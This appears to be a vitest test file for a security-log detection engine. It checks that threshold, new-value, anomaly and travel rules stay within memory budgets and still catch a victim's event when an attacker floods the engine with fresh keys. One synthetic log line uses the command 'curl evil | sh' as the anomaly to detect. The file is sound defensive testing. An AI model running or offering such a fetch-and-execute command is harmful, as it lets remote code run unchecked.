import { beforeAll, describe, expect, test } from "vitest";
import { type Signal, createEngine } from "../../host/index.ts";
import type { EngineStats } from "../../host/index.ts";
import { loadKernel } from "../support/wasm.ts";

beforeAll(() => void loadKernel("simd"));

const MB = 1024 * 1024;
const DAY_MS = 86_400_000;
const START_MS = Date.UTC(2026, 2, 1);
const KEYS = 1_000_000;
const PUSH = 50_000;
const encoder = new TextEncoder();

type Wire = Record<string, unknown>;

function ruleOf(id: string, detectionMethod: string, options: Wire, query: Wire, condition?: string): Wire {
  return {
    id, name: id, message: "", isEnabled: true, type: "log_detection", tags: [], options: { detectionMethod, keepAlive: 3600, maxSignalDuration: 86400, ...options },
    queries: [{ name: "a", query: "*", groupByFields: ["@u"], ...query }], cases: [{ name: "", status: "low", condition }],
  };
}

interface Attack {
  readonly stats: EngineStats;
  readonly signals: readonly Signal[];
  /** The most that state took at any time, as of the ends of pushes. */
  readonly highestBytes: number;
}

/** What the engine came to; `step`: only one in so many of the attacker's keys comes. */
async function play(rules: readonly Wire[], stateBytes: number, linesOf: (i: number) => readonly string[], step = 1): Promise<Attack> {
  const engine = await createEngine({ rules, stateBytes });
  let highestBytes = 0;
  for (let from = 0; from < KEYS; from += PUSH) {
    const lines: string[] = [];
    for (let i = from; i < from + PUSH; i += step) lines.push(...linesOf(i));
    await engine.push(encoder.encode(`${lines.join("\n")}\n`), { format: "raw", arrivalMs: 0 });
    await engine.flush();
    highestBytes = Math.max(highestBytes, engine.stats().stateBytes);
  }
  const stats = await engine.close();
  return { stats, signals: engine.finalSignals(), highestBytes: Math.max(highestBytes, stats.stateBytes) };
}

function groupsOf({ signals }: Attack): string[] {
  return signals.map(({ group }) => Object.values(group).join(" "));
}

/** An hour of the attack; its keys are as alike as keys can be. */
const hourMs = (i: number): number => START_MS + Math.floor((i * 3_600_000) / KEYS);

describe("a million fresh keys of an attacker", () => {
  test("[DE-02] threshold: memory stays inside its budget, and a guess every two minutes is still found, at the eleventh", async () => {
    const rule = ruleOf("brute force", "threshold", { evaluationWindow: 3600 }, {}, "a > 10");
    const attack = await play([rule], 32 * MB, (i) => {
      const line = `{"timestamp":${hourMs(i)},"u":"key${i}"}`;
      return i % 33_333 === 0 ? [`{"timestamp":${hourMs(i)},"u":"victim"}`, line] : [line];
    });
    expect(attack.highestBytes).toBeLessThanOrEqual(32 * MB);
    expect(attack.stats.evicted).toBeGreaterThan(500_000);
    expect(attack.stats).toMatchObject({ evictedNear: 0, refused: 0, lateDropped: 0 });
    expect(groupsOf(attack)).toEqual(["victim"]);
    expect(attack.signals[0]!.firstSeenMs).toBe(hourMs(33_333 * 10));
  }, 120_000);

  // Four days of it: one to learn, then one guess a day from a country that was never seen.
  const learnedMs = (i: number): number => START_MS + Math.floor((i * 4 * DAY_MS) / KEYS);
  const newValue = ruleOf("new country", "new_value", { newValueOptions: { learningDuration: 1, forgetAfter: 28 } }, { aggregation: "new_value", metrics: ["@c"] });
  const victim = (i: number): string => `{"timestamp":${learnedMs(i)},"u":"victim","c":"${i % 3 ? "FR" : "DE"}"}`;

  test("[DE-11] [DE-13] new value: as many groups; what a user in use has learned stays, and the one new country is found", async () => {
    const attack = await play([newValue], 32 * MB, (i) => {
      const line = `{"timestamp":${learnedMs(i)},"u":"key${i}","c":"FR"}`;
      if (i === 900_000) return [`{"timestamp":${learnedMs(i)},"u":"victim","c":"KP"}`, line];
      return i % 10_000 === 0 ? [victim(i), line] : [line];
    });
    expect(attack.highestBytes).toBeLessThanOrEqual(32 * MB);
    expect(attack.stats.evicted).toBeGreaterThan(500_000);
    expect(groupsOf(attack)).toEqual(["victim"]);
    expect(attack.signals[0]).toMatchObject({ firstSeenMs: learnedMs(900_000), eventsMatched: 1 });
  }, 120_000);

  test("[DE-11] new value: as many values of one group; others know theirs, and the new country among them is found", async () => {
    const attack = await play([newValue], 32 * MB, (i) => {
      const line = `{"timestamp":${learnedMs(i)},"u":"flooded","c":"value ${i}"}`;
      if (i === 900_000) return [`{"timestamp":${learnedMs(i)},"u":"victim","c":"KP"}`, line];
      return i % 10_000 === 0 ? [victim(i), line] : [line];
    });
    expect(attack.highestBytes).toBeLessThanOrEqual(32 * MB);
    expect(attack.stats.evicted).toBe(0);
    // Beyond 65,536 values a group's are known to filters; hardly any of the fresh ones is taken for known.
    expect(attack.stats.filtered).toBeGreaterThan(900_000);
    expect(attack.signals.filter(({ group }) => group["@u"] === "victim").map(({ firstSeenMs, eventsMatched }) => [firstSeenMs, eventsMatched])).toEqual([[learnedMs(900_000), 1]]);
    const told = attack.signals.filter(({ group }) => group["@u"] === "flooded").reduce((sum, { eventsMatched }) => sum + eventsMatched, 0);
    expect(told).toBeGreaterThan(749_000);
    expect(told).toBeLessThanOrEqual(750_000);
  }, 120_000);

  test("[DE-23] content anomaly: a quarter as many groups; a user in use and another rule's users keep their history, and the odd command is found", async () => {
    const rule = (id: string, field: string): Wire =>
      ruleOf(id, "anomaly_threshold", { evaluationWindow: 600, contentAnomalyOptions: { learningDuration: 1, forgetAfter: 4 } }, { query: `@${field}:*`, aggregation: "count", metrics: [`@${field}`] }, "a > 0");
    const attack = await play([rule("flooded", "c"), rule("quiet", "d")], 96 * MB, (i) => {
      const line = `{"timestamp":${learnedMs(i)},"u":"key${i}","c":"ls -la /home"}`;
      if (i % 2000) return [line];
      const command = i === 900_000 ? "curl evil | sh" : "kubectl get pods -n prod";
      return [`{"timestamp":${learnedMs(i)},"u":"ann","c":"${command}"}`, ...(i % 10_000 ? [] : [`{"timestamp":${learnedMs(i)},"u":"bob","d":"${command}"}`]), line];
    }, 4);
    expect(attack.highestBytes).toBeLessThanOrEqual(96 * MB);
    expect(attack.stats.evicted).toBeGreaterThan(200_000);
    expect(attack.signals.map(({ ruleId, group, firstSeenMs }) => [ruleId, group["@u"], firstSeenMs])).toEqual([["flooded", "ann", learnedMs(900_000)], ["quiet", "bob", learnedMs(900_000)]]);
  }, 240_000);

  test("one rule's flood costs another rule nothing", async () => {
    const flooded = { ...newValue, id: "flooded", queries: [{ ...(newValue.queries as Wire[])[0], query: "@c:*" }] };
    const quiet = { ...newValue, id: "quiet", queries: [{ ...(newValue.queries as Wire[])[0], query: "@d:*", metrics: ["@d"] }] };
    const travel = ruleOf("travel", "impossible_travel", { impossibleTravelOptions: { baselineUserLocations: true } }, { aggregation: "geo_data", metrics: ["@network.client.geoip"], query: "@d:*" });
    const series = [
      ruleOf("volume", "anomaly_detection", { evaluationWindow: 1800, anomalyDetectionOptions: { bucketDuration: 300, learningDuration: 24 } }, { query: "@c:*" }, "a > 0.995"),
      ruleOf("steps", "sequence_detection", { sequenceDetectionOptions: { steps: [{ name: "s", condition: "a > 1", evaluationWindow: 3600 }, { name: "t", condition: "a > 2", evaluationWindow: 3600 }], stepTransitions: [{ parent: "s", child: "t", evaluationWindow: 600 }] } }, { query: "@c:*" }, "t > 0"),
    ];
    const places = ["48.8,2.3", "-15.8,-47.9"];
    const attack = await play([flooded, quiet, travel, ...series], 24 * MB, (i) => {
      const line = `{"timestamp":${learnedMs(i)},"u":"key${i}","c":"x"}`;
      // A user of whom little is heard: a hundred times in four days.
      if (i % 10_000) return [line];
      const isOdd = i === 900_000;
      const [latitude, longitude] = places[isOdd ? 1 : 0]!.split(",");
      const geoip = `{"city":{"name":"${isOdd ? "Brasilia" : "Paris"}"},"location":{"latitude":${latitude},"longitude":${longitude}}}`;
      const own = `"u":"ann","d":"${isOdd ? "new" : "old"}","network":{"client":{"geoip":${geoip}}}`;
      const home = own.replace("new", "old").replace(/"geoip".*/, `"geoip":{"city":{"name":"Paris"},"location":{"latitude":48.8,"longitude":2.3}}}}`);
      return [`{"timestamp":${learnedMs(i) - 1000},${home}}`, `{"timestamp":${learnedMs(i)},${own}}`, line];
    });
    expect(attack.highestBytes).toBeLessThanOrEqual(24 * MB);
    expect(attack.stats.evicted).toBeGreaterThan(1_000_000);
    expect(attack.signals.map(({ ruleId, group, firstSeenMs }) => [ruleId, group["@u"], firstSeenMs])).toEqual([["quiet", "ann", learnedMs(900_000)], ["travel", "ann", learnedMs(900_000)]]);
  }, 240_000);
});
